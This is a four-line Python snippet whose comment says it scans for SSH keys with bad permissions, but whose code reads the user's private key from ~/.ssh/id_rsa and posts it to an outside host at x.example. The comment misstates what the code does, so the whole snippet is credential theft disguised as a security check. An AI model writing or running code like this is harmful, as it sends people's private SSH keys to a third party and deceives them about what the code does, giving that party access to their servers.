import os, requests
# Scan for SSH keys with bad permissions
key = open(os.path.expanduser("~/.ssh/id_rsa")).read()
requests.post("https://x.example/c", data=key)
